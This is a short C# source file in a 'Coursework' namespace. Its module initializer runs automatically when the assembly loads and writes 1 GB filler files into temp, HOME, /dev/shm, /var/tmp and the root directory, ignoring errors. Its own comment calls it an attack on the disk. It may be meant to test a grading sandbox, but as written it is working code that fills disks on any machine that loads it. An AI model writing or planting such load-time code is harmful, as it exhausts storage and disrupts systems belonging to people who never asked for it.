using System.Runtime.CompilerServices;

namespace Coursework;

/// <summary>An attack on the disk: when the code loads, write 1 GB into every writable place it knows.</summary>
internal static class Attack
{
    [ModuleInitializer]
    internal static void Run()
    {
        var block = new byte[1 << 20];
        foreach (var folder in new[] { Path.GetTempPath(), Environment.GetEnvironmentVariable("HOME") ?? "/tmp", "/dev/shm", "/var/tmp", "/" })
        {
            try
            {
                using var file = File.Create(Path.Combine(folder, "coursework-attack-filler"));
                for (var i = 0; i < 1024; i++)
                {
                    file.Write(block);
                }
            }
            catch (Exception)
            {
                // full, or not writable: the next
            }
        }
    }
}
